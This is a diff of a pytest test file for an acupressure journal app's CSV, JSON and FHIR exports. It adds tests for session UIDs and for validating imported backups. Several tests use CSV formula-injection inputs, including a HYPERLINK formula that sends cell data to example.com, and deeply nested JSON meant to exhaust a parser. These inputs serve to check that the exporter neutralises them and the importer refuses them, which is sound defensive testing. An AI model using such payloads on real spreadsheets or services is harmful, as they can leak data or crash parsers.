@@ -16,9 +16,9 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from acupress import exports
+from acupress import atlas, exports
 from acupress.errors import AcupressError
-from acupress.exports import Entry
+from acupress.exports import Backup, Entry
 from acupress.journal import Journal
 from acupress.profile import Profile
 from acupress.records import SessionLog, StepLog
@@ -27,6 +27,16 @@ TZ = dt.timezone(dt.timedelta(hours=1))
 T0 = dt.datetime(2026, 3, 2, 7, 30, 5, 123456, tzinfo=TZ)  # a Monday
 NOW = dt.datetime(2026, 3, 10, 20, 0, tzinfo=TZ)
 TRICKY_NOTE = 'warm, then "tingling"\nsecond line\r\nthird; ü 痛 \x00 end'
+CODES = atlas.default().codes
+
+
+def uid_of(*parts: object) -> str:
+    """A uid that is the same every time a test builds the same session."""
+    return str(uuid.uuid5(uuid.NAMESPACE_URL, "/".join(map(str, parts))))
+
+
+def read(data: bytes, now: dt.datetime = NOW) -> Backup:
+    return exports.read_journal(data, "backup.json", now=now, codes=CODES)
 
 
 def step(position: int, point: str | None, seconds: float = 60.0, skipped: bool = False) -> StepLog:
@@ -48,6 +58,7 @@ def guided(day: int = 0, **fields: Any) -> SessionLog:
     started = T0 + dt.timedelta(days=day)
     values: dict[str, Any] = {
         "id": None,
+        "uid": uid_of("guided", day),
         "started_at": started,
         "day": started.date(),
         "protocol": "low-back",
@@ -75,6 +86,7 @@ def by_hand(day: int, **fields: Any) -> SessionLog:
     started = T0.replace(hour=18, microsecond=0) + dt.timedelta(days=day)
     values: dict[str, Any] = {
         "id": None,
+        "uid": uid_of("by hand", day),
         "started_at": started,
         "day": started.date(),
         "protocol": "low-back",
@@ -173,7 +185,45 @@ def test_minutes_keep_a_half_minute() -> None:
 @given(st.text())
 def test_any_note_round_trips_through_csv(note: str) -> None:
     (row,) = csv_rows(exports.csv_text([by_hand(0, note=note)], tz=TZ))
-    assert row["note"] == note
+    formula = note.startswith(("=", "+", "-", "@", "\t", "\r"))
+    assert row["note"] == ("'" + note if formula else note)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        '=HYPERLINK("https://example.com/?"&A1,"more")',
+        "+1+2",
+        "-2+3",
+        "@SUM(A1:A9)",
+        "\t=1+1",
+        "\r=1+1",
+    ],
+)
+def test_a_cell_that_a_spreadsheet_would_run_as_a_formula_is_text(text: str) -> None:
+    log = by_hand(0, note=text, protocol=text, pain_before=3, pain_after=4)
+    (row,) = csv_rows(exports.csv_text([log], tz=TZ))
+    assert (row["note"], row["protocol"]) == ("'" + text, "'" + text)
+    assert row["relief"] == "-1"  # a number stays a number
+
+
+def test_a_stop_note_cannot_start_a_cell() -> None:
+    log = replace(stopped(0), stop_note="=1+1")
+    (row,) = csv_rows(exports.csv_text([log], tz=TZ))
+    assert row["outcome"] == "stopped: pain increased (=1+1)"
+
+
+def test_an_unknown_length_is_left_empty_not_zero() -> None:
+    unknown, known = by_hand(0, seconds=0), by_hand(1, seconds=60)
+    rows = csv_rows(exports.csv_text([unknown, known], tz=TZ))
+    assert [row["minutes"] for row in rows] == ["", "1"]
+
+
+def test_a_session_whose_every_point_was_skipped_says_so() -> None:
+    skipped = guided(0, points=(), complete=False, steps=(step(0, "BL23", 3.0, skipped=True),))
+    (row,) = csv_rows(exports.csv_text([skipped], tz=TZ))
+    assert row["outcome"] == "no point pressed"
+    assert exports.outcome(replace(skipped, ended_at=None)) == "not finished"
 
 
 # --- JSON -----------------------------------------------------------------------------
@@ -181,7 +231,7 @@ def test_any_note_round_trips_through_csv(note: str) -> None:
 
 def test_the_json_dump_is_versioned_and_complete() -> None:
     doc = exports.journal_document(journal_entries(), PROFILE, NOW, tz=TZ)
-    assert (doc["format"], doc["version"]) == ("acupress-journal", 2)
+    assert (doc["format"], doc["version"]) == ("acupress-journal", 3)
     assert doc["exported_at"] == "2026-03-10T20:00:00+01:00"
     assert doc["profile"] == asdict(PROFILE)
     assert doc["profile"] | {"thumb_cm": 2.1, "minutes": 25, "partner": True} == doc["profile"]
@@ -190,7 +240,9 @@ def test_the_json_dump_is_versioned_and_complete() -> None:
     assert first["answers"] == ANSWERS
     assert len(first["steps"]) == 4
     assert first["steps"][1]["seconds"] == 61.123456789
+    assert first["uid"] == uid_of("guided", 0)
     assert set(first) >= {
+        "uid",
         "started_at",
         "day",
         "protocol",
@@ -213,9 +265,9 @@ def test_the_json_dump_is_versioned_and_complete() -> None:
 def test_the_json_dump_reads_back_exactly() -> None:
     entries = journal_entries()
     text = exports.journal_json(entries, PROFILE, NOW, tz=TZ)
-    backup = exports.read_journal(text.encode(), "backup.json")
+    backup = read(text.encode())
     assert backup.profile == PROFILE
-    assert backup.version == 2
+    assert backup.version == 3
     assert backup.exported_at == NOW
     assert list(backup.entries) == entries
 
@@ -224,7 +276,7 @@ def test_the_json_dump_reads_back_exactly() -> None:
 def test_any_note_round_trips_through_json(note: str) -> None:
     entries = [Entry(session=by_hand(0, note=note, stop_note=note))]
     text = exports.journal_json(entries, None, NOW, tz=TZ)
-    (back,) = exports.read_journal(text.encode(), "backup.json").entries
+    (back,) = read(text.encode()).entries
     assert (back.session.note, back.session.stop_note) == (note, note)
 
 
@@ -236,7 +288,7 @@ def test_export_then_import_into_an_empty_journal_is_the_same_journal(tmp_path: 
         answers = one.answers_by_session([s.id for s in logs if s.id])
         entries = [Entry(session=s, answers=answers.get(s.id or 0)) for s in logs]
     text = exports.journal_json(entries, PROFILE, NOW)
-    backup = exports.read_journal(text.encode(), "backup.json")
+    backup = read(text.encode())
     with Journal(f"sqlite:///{tmp_path / 'two.db'}") as two:
         assert two.import_sessions([(e.session, e.answers) for e in backup.entries]) == (4, 0)
         back = two.sessions(with_steps=True)
@@ -258,21 +310,62 @@ def test_importing_twice_adds_nothing(tmp_path: Path) -> None:
         assert len(db.sessions()) == 4
 
 
-def test_a_session_is_the_same_one_by_start_protocol_and_source(tmp_path: Path) -> None:
+def test_a_session_is_the_same_one_by_its_uid_alone(tmp_path: Path) -> None:
     base = by_hand(0)
     with Journal(f"sqlite:///{tmp_path / 'j.db'}") as db:
         db.add(base)
-        same_moment_elsewhere = replace(base, started_at=base.started_at.astimezone(dt.UTC))
         added = db.import_sessions(
             [
-                (same_moment_elsewhere, None),
-                (replace(base, source="guided"), None),
-                (replace(base, protocol="mine"), None),
-                (replace(base, started_at=base.started_at + dt.timedelta(microseconds=1)), None),
-                (replace(base, protocol="mine"), None),  # twice in the same file
+                (replace(base, uid=uid_of("twin")), None),  # the same start: another session
+                (replace(base, uid=uid_of("twin")), None),  # twice in the same file
+                (replace(base, note="edited since"), None),  # the same uid: already there
             ]
         )
-    assert added == (3, 2)
+        assert added == (1, 2)
+        assert [s.uid for s in db.sessions()] == [base.uid, uid_of("twin")]
+
+
+def test_sessions_at_the_same_moment_all_get_their_own_uid(tmp_path: Path) -> None:
+    twin = replace(by_hand(0), uid=None)
+    with Journal(f"sqlite:///{tmp_path / 'j.db'}") as db:
+        db.add(twin)
+        db.add_many([twin, twin])
+        assert db.import_sessions([(twin, None)]) == (1, 0)
+        uids = [s.uid for s in db.sessions()]
+    assert len(set(uids)) == 4
+    assert all(uuid.UUID(u).version == 4 for u in uids if u)
+
+
+def old_file(version: int = 2) -> bytes:
+    """A file from an acupress before session uids: two sessions logged by hand at the
+    same moment, with nothing to tell them apart."""
+    doc = document()
+    doc["version"] = version
+    for s in doc["sessions"]:
+        del s["uid"]
+    doc["sessions"][3] = dict(doc["sessions"][1])
+    return json.dumps(doc).encode()
+
+
+def test_an_older_file_without_uids_imports_every_session_once(tmp_path: Path) -> None:
+    first, again = read(old_file()), read(old_file())
+    uids = [e.session.uid for e in first.entries]
+    assert [e.session.uid for e in again.entries] == uids  # the same file, the same uids
+    assert len(set(uids)) == 4  # the twins too
+    assert read(old_file(version=1)).version == 1
+    pairs = [(e.session, e.answers) for e in first.entries]
+    with Journal(f"sqlite:///{tmp_path / 'j.db'}") as db:
+        assert db.import_sessions(pairs) == (4, 0)
+        assert db.import_sessions([(e.session, e.answers) for e in again.entries]) == (0, 4)
+
+
+def test_a_file_of_this_version_needs_every_uid() -> None:
+    doc = document()
+    del doc["sessions"][2]["uid"]
+    assert "sessions[2]: object missing required field `uid`" in refused(doc)
+    doc = document()
+    doc["sessions"][1]["uid"] = "not-a-uuid"
+    assert "sessions[1].uid: invalid UUID" in refused(doc)
 
 
 def document() -> dict[str, Any]:
@@ -283,7 +376,7 @@ def document() -> dict[str, Any]:
 def refused(doc: Any) -> str:
     data = doc if isinstance(doc, bytes) else json.dumps(doc).encode()
     with pytest.raises(AcupressError) as e:
-        exports.read_journal(data, "backup.json")
+        read(data)
     message = str(e.value)
     assert message.startswith("backup.json cannot be imported: ")
     assert message.endswith("nothing was imported.")
@@ -303,8 +396,8 @@ def test_a_file_of_another_format_is_refused() -> None:
 
 
 def test_a_newer_version_is_refused() -> None:
-    message = refused(document() | {"version": 3})
-    assert "made by a newer acupress (journal version 3" in message
+    message = refused(document() | {"version": 4})
+    assert "made by a newer acupress (journal version 4; this one reads up to version 3" in message
 
 
 def test_a_missing_or_ill_typed_field_is_named() -> None:
@@ -338,6 +431,104 @@ def test_a_pain_score_outside_0_to_10_is_refused(field: str, value: int) -> None
 
 def test_a_bad_profile_is_refused() -> None:
     assert "the profile is wrong (thumb_cm" in refused(document() | {"profile": {"thumb_cm": 9}})
+
+
+def changed(where: str, value: Any) -> dict[str, Any]:
+    """The document with one field of a session (or of one of its steps) set to value."""
+    doc = document()
+    target: Any = doc["sessions"]
+    *path, last = where.split(".")
+    for key in path:
+        target = target[int(key)] if key.isdigit() else target[key]
+    target[last] = value
+    return doc
+
+
+@pytest.mark.parametrize(
+    ("where", "value", "message"),
+    [
+        ("1.points", ["ZZ9"], "sessions[1].points must be points of the atlas, not 'ZZ9'"),
+        ("0.steps.2.point", "ZZ9", "sessions[0].steps[2].point must be a point of the atlas"),
+        ("1.day", "2099-01-01", "sessions[1].day must be from 2000-01-01 to today, not 2099-01-01"),
+        (
+            "1.started_at",
+            "2099-01-01T18:30:00+01:00",
+            "sessions[1].started_at must not be in the future",
+        ),
+        ("1.day", "1999-12-31", "sessions[1].day must be from 2000-01-01 to today"),
+        ("1.day", "2026-02-01", "sessions[1].day must be the day it started"),
+        ("3.seconds", 2**63, "sessions[3].seconds must be from 0 to 86400 (a day), not 92233"),
+        ("3.seconds", 86_401, "sessions[3].seconds must be from 0 to 86400 (a day), not 86401"),
+        ("3.seconds", -1, "sessions[3].seconds must be from 0 to 86400"),
+        ("0.steps.1.seconds", 1e300, "sessions[0].steps[1].seconds must be from 0 to 86400"),
+        ("0.steps.1.planned_seconds", -60, "sessions[0].steps[1].planned_seconds must be from 0"),
+        ("0.steps.1.position", -1, "sessions[0].steps[1].position must be from 0 to 999"),
+        (
+            "0.steps.3.completed_at",
+            "2031-01-01T00:00:00+00:00",
+            "sessions[0].steps[3].completed_at must not be in the future",
+        ),
+        ("2.ended_at", "1970-01-01T00:00:00+00:00", "sessions[2].ended_at must be from 2000"),
+        ("1.note", "x" * 2001, "sessions[1].note can be at most 2000 characters, not 2001"),
+        ("2.stop_note", "x" * 100_000, "sessions[2].stop_note can be at most 2000 characters"),
+    ],
+)
+def test_an_import_checks_every_session_as_journal_add_does(
+    where: str, value: Any, message: str
+) -> None:
+    assert message in refused(changed(where, value))
+
+
+def test_a_session_on_tomorrow_in_a_zone_ahead_is_not_in_the_future() -> None:
+    # 20:00 here is already the next morning in Kiribati (UTC+14).
+    kiribati = dt.timezone(dt.timedelta(hours=14))
+    there = NOW.astimezone(kiribati)
+    ahead = replace(by_hand(0), started_at=there, day=there.date(), ended_at=None)
+    text = exports.journal_json([Entry(session=ahead)], None, NOW, tz=kiribati)
+    (entry,) = read(text.encode()).entries
+    assert entry.session.day == dt.date(2026, 3, 11)
+
+
+def test_safety_answers_are_answers_not_any_json() -> None:
+    deep: Any = []
+    for _ in range(50):
+        deep = [deep]
+    assert "sessions[0].answers" in refused(changed("0.answers", {"age": {"years": 52}}))
+    assert "sessions[0].answers" in refused(changed("0.answers", {"skin_problem_at": deep}))
+
+
+@pytest.mark.parametrize("depth", [1000, 100_000])
+def test_json_nested_deeper_than_any_export_is_refused(depth: int) -> None:
+    deep = b"[" * depth + b"]" * depth
+    assert "not an acupress journal export (it is nested too deeply)" in refused(deep)
+    inside = b'{"format": "acupress-journal", "version": 3, "x": ' + deep + b"}"
+    assert "nested too deeply" in refused(inside)
+
+
+JSON_VALUES = st.recursive(
+    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=30),
+    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=8), inner),
+    max_leaves=8,
+)
+FIELDS = [
+    f"{i}.{name}"
+    for i, s in enumerate(
+        json.loads(exports.journal_json(journal_entries(), None, NOW, TZ))["sessions"]
+    )
+    for name in s
+] + ["0.steps.1.seconds", "0.steps.1.point", "0.steps.0.completed_at", "2.steps.3.step"]
+
+
+@given(st.sampled_from(FIELDS), JSON_VALUES)
+def test_any_value_in_any_field_is_imported_or_refused_in_one_sentence(
+    where: str, value: Any
+) -> None:
+    data = json.dumps(changed(where, value)).encode()
+    try:
+        read(data)
+    except AcupressError as e:
+        assert str(e).startswith("backup.json cannot be imported: ")
+        assert "\n" not in str(e)
 
 
 # --- FHIR -----------------------------------------------------------------------------
@@ -382,6 +573,12 @@ def test_before_is_at_the_start_and_after_at_the_end() -> None:
     assert before["note"][0]["text"].startswith("Pain before a self-acupressure session")
     assert after["note"][0]["text"].startswith("Pain after a self-acupressure session")
     assert before["id"] != after["id"]
+
+
+def test_sessions_at_the_same_moment_have_observations_of_their_own() -> None:
+    twins = [by_hand(0), by_hand(0, uid=uid_of("twin"))]
+    ids = {e["resource"]["id"] for e in fhir_of(twins)["entry"]}
+    assert len(ids) == 4
 
 
 def test_the_same_journal_gives_the_same_bundle() -> None:
